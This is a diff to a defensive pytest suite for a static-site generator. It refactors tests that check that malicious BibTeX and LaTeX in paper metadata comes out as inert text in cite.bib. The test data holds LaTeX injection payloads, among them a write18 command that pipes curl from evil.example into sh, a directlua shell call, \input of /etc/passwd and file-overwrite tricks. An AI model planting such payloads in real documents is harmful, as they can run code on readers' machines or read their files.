@@ -16,7 +16,7 @@ import bibtexparser
 import pytest
 
 from generator.bibtex import inert
-from tests.hostile.harness import run_build, write_site
+from tests.hostile.harness import Built, run_build, write_site
 
 PAYLOADS = [
     "}, note={injected}, x={",
@@ -110,34 +110,46 @@ def tex_commands(text: str) -> list[str]:
     return words
 
 
+def two_cite_bibs(tmp_path: Path, fields: str, own: str) -> tuple[Built, dict[str, str]]:
+    """Build a site whose paper `one` has the front matter lines ``fields`` and whose paper
+    `two` carries ``own`` as its own BibTeX entry: the build, and each one's cite.bib."""
+    site = write_site(
+        tmp_path,
+        {"site.yaml": "title: T\nbuild_date: 2026-11-28\n",
+         "content/authors/ada.yaml": "name: Ada Lovelace\n",
+         "content/papers/one.md": f"---\n{fields}date: 2024-05-01\n---\nx\n",
+         "content/papers/two.md": f"---\ntitle: Own\nauthors: [Ada Lovelace]\ndate: 2024\n"
+         f"bibtex: {q(own)}\n---\nx\n"},
+    )  # fmt: skip
+    built = run_build(site)
+    assert built.status == 0, built.stderr
+    return built, {
+        slug: (built.out / f"papers/{slug}/cite.bib").read_text("utf-8") for slug in ("one", "two")
+    }
+
+
 def test_tex_that_would_act_on_a_readers_computer_is_shown_as_text(tmp_path: Path) -> None:
     own = (
         "@misc{own2024,\n  title = {\\begin{filecontents*}[overwrite]{main.tex}x"
         "\\end{filecontents*}},\n  note = {\\@@input /etc/passwd \\catcode`\\|=0 |input x"
         ' \\directlua{os.execute("sh")} \\begin%\n{filecontents}}\n}'
     )
-    site = write_site(
+    built, cite_bibs = two_cite_bibs(
         tmp_path,
-        {"site.yaml": "title: T\nbuild_date: 2026-11-28\n",
-         "content/authors/ada.yaml": "name: Ada Lovelace\n",
-         "content/papers/one.md": "---\ntitle: 'Engines \\input{/etc/passwd} and "
-         "\\immediate\\write18{curl evil.example | sh} on \\\"{o} and $\\alpha$'\n"
-         "authors: [Ada Lovelace, 'Eve \\csname input\\endcsname{x}']\n"
-         "venue: '^^5cinput{/etc/passwd}'\ndate: 2024-05-01\n---\nx\n",
-         "content/papers/two.md": f"---\ntitle: Own\nauthors: [Ada Lovelace]\ndate: 2024\n"
-         f"bibtex: {q(own)}\n---\nx\n"},
-    )  # fmt: skip
-    built = run_build(site)
-    assert built.status == 0, built.stderr
-    for slug in ("one", "two"):
-        text = (built.out / f"papers/{slug}/cite.bib").read_text("utf-8")
+        "title: 'Engines \\input{/etc/passwd} and "
+        "\\immediate\\write18{curl evil.example | sh} on \\\"{o} and $\\alpha$'\n"
+        "authors: [Ada Lovelace, 'Eve \\csname input\\endcsname{x}']\n"
+        "venue: '^^5cinput{/etc/passwd}'\n",
+        own,
+    )
+    for slug, text in cite_bibs.items():
         assert not TEX_ACTIONS & set(tex_commands(text)), text
         assert "^^" not in text and not re.search(r"\\begin\s*(?:%|\{filecontents)", text), text
         assert not bibtexparser.parse_string(text).failed_blocks, text
         # The page shows the same entry, as text.
         shown = built.pages()[f"papers/{slug}/index.html"].all_text()
         assert text.strip() in shown
-    one = (built.out / "papers/one/cite.bib").read_text("utf-8")
+    one = cite_bibs["one"]
     # Shown as what was written; LaTeX a title needs is kept as it is.
     assert "\\textbackslash{}input{/etc/passwd}" in one
     assert '\\"{o} and $\\alpha$' in one
@@ -162,20 +174,11 @@ def test_tex_that_would_act_on_a_readers_computer_is_shown_as_text(tmp_path: Pat
 def test_a_command_named_by_text_is_shown_as_text(payload: str, tmp_path: Path) -> None:
     """Ways to run `\\input` (or write a file) without writing `\\input` in cite.bib."""
     own = f"@misc{{own2024,\n  title = {{Own}},\n  note = {{{payload}}}\n}}"
-    site = write_site(
-        tmp_path,
-        {"site.yaml": "title: T\nbuild_date: 2026-11-28\n",
-         "content/authors/ada.yaml": "name: Ada Lovelace\n",
-         "content/papers/one.md": f"---\ntitle: {q('Engines ' + payload)}\n"
-         "authors: [Ada Lovelace]\ndate: 2024-05-01\n---\nx\n",
-         "content/papers/two.md": f"---\ntitle: Own\nauthors: [Ada Lovelace]\ndate: 2024\n"
-         f"bibtex: {q(own)}\n---\nx\n"},
-    )  # fmt: skip
-    built = run_build(site)
-    assert built.status == 0, built.stderr
+    _, cite_bibs = two_cite_bibs(
+        tmp_path, f"title: {q('Engines ' + payload)}\nauthors: [Ada Lovelace]\n", own
+    )
     naming = {"begin", "end", "UseName", "csuse", "nameuse", "makeatletter", "ExplSyntaxOn"}
-    for slug in ("one", "two"):
-        text = (built.out / f"papers/{slug}/cite.bib").read_text("utf-8")
+    for text in cite_bibs.values():
         assert not (TEX_ACTIONS | naming) & set(tex_commands(text)), text
         assert not bibtexparser.parse_string(text).failed_blocks, text
 
